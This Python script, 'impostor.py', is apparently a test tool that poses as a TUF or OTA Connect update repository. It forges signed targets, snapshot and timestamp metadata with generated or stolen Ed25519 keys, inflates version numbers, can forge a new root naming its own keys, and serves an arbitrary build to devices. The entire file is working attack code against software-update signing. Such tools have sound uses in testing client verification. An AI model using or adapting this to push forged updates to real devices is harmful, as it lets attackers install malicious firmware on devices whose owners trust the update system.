"""Stands between devices and their repository, hands on what that serves, and offers a build of its own in its place.

    impostor.py PORT REPOSITORY_URL ARTIFACT PATH BUILD [--keys FOLDER] [--new-root]

Without more it is a service with keys of its own, made here and now. With --keys it has stolen the online keys: FOLDER/ROLE.pem of
targets, snapshot and timestamp, Ed25519. With --new-root it offers a next root, too, which names its own keys.

It speaks both dialects, whichever the repository does. Of all that it signs, the canonical JSON is the same in both.
"""

import argparse
import base64
import hashlib
import json
import urllib.error
import urllib.request
from datetime import datetime, timedelta, timezone
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat, load_pem_private_key

ROLES = ("targets", "snapshot", "timestamp")
# Above all that its owners publish meanwhile.
AHEAD = 1000

parser = argparse.ArgumentParser()
parser.add_argument("port", type=int)
parser.add_argument("repository", type=lambda url: url.rstrip("/") + "/")
parser.add_argument("artifact", type=Path)
parser.add_argument("path")
parser.add_argument("build")
parser.add_argument("--keys", type=Path)
parser.add_argument("--new-root", action="store_true")
arguments = parser.parse_args()


def published(name):
    """The file's bytes, or None where there is none."""
    try:
        with urllib.request.urlopen(arguments.repository + name) as answer:
            return answer.read()
    except urllib.error.HTTPError:
        return None


def newest_root():
    root, version = None, 1
    while file := published(f"{version}.root.json"):
        root, version = json.loads(file)["signed"], version + 1
    return root


root = newest_root()
ota_connect = root["_type"] == "Root"


def canonical(value):
    return json.dumps(value, sort_keys=True, separators=(",", ":")).encode()


def key_object(key):
    public = key.public_key().public_bytes(Encoding.Raw, PublicFormat.Raw).hex()
    if ota_connect:
        return {"keytype": "ED25519", "keyval": {"public": public}}
    return {"keytype": "ed25519", "keyval": {"public": public}, "scheme": "ed25519"}


def keyid(key):
    """Of a stolen key what root calls it: whoever reads the public root knows that."""
    named = (keyid for keyid, known in root["keys"].items() if known["keyval"] == key_object(key)["keyval"])
    if found := next(named, None):
        return found
    if ota_connect:
        return hashlib.sha256(key.public_key().public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo)).hexdigest()
    return hashlib.sha256(canonical(key_object(key))).hexdigest()


def sign(signed, key):
    value = key.sign(canonical(signed))
    signature = {"keyid": keyid(key), "sig": value.hex()}
    if ota_connect:
        signature.update(method="ed25519", sig=base64.b64encode(value).decode())
    return canonical({"signatures": [signature], "signed": signed})


def metadata(role, version, key, **fields):
    expires = datetime.now(timezone.utc) + timedelta(days=1)
    signed = {"_type": role, "version": version, "expires": expires.strftime("%Y-%m-%dT%H:%M:%SZ"), **fields}
    if ota_connect:
        signed["_type"] = role.capitalize()
    else:
        signed["spec_version"] = root["spec_version"]
    return sign(signed, key)


def meta(file):
    return {"hashes": {"sha256": hashlib.sha256(file).hexdigest()}, "length": len(file),
            "version": json.loads(file)["signed"]["version"]}


def own_keys():
    return {role: Ed25519PrivateKey.generate() for role in ROLES}


def stolen_keys(folder):
    return {role: load_pem_private_key((folder / f"{role}.pem").read_bytes(), None) for role in ROLES}


def offer(keys):
    build = arguments.artifact.read_bytes()
    custom = {"hardwareIds": ["intel-corei7-64"], "name": "intel-corei7-64-lmp", "tags": ["main"],
              "targetFormat": "BINARY", "version": arguments.build}
    version = json.loads(published("timestamp.json"))["signed"]["version"] + AHEAD
    targets = metadata("targets", version, keys["targets"], targets={arguments.path: {
        "custom": custom, "hashes": {"sha256": hashlib.sha256(build).hexdigest()}, "length": len(build)}})
    snapshot = metadata("snapshot", version, keys["snapshot"], meta={"targets.json": meta(targets)})
    timestamp = metadata("timestamp", version, keys["timestamp"], meta={"snapshot.json": meta(snapshot)})
    prefix = "" if ota_connect else f"{version}."
    return {f"{prefix}targets.json": targets, f"{prefix}snapshot.json": snapshot, "timestamp.json": timestamp}


def next_root(keys):
    own = Ed25519PrivateKey.generate()
    keys = {"root": own, **keys}
    version = root["version"] + 1
    signed = {**root, "version": version,
              "keys": {keyid(key): key_object(key) for key in keys.values()},
              "roles": {role: {"keyids": [keyid(key)], "threshold": 1} for role, key in keys.items()}}
    return {f"{version}.root.json": sign(signed, own)}


keys = stolen_keys(arguments.keys) if arguments.keys else own_keys()
offered = offer(keys)
if arguments.new_root:
    offered.update(next_root(keys))


class Impostor(BaseHTTPRequestHandler):
    def do_GET(self):
        name = self.path.rsplit("/", 1)[-1]
        body = offered.get(name) or published(name)
        self.send_response(200 if body else 404)
        self.send_header("Content-Length", str(len(body or b"")))
        self.end_headers()
        self.wfile.write(body or b"")


ThreadingHTTPServer(("127.0.0.1", arguments.port), Impostor).serve_forever()
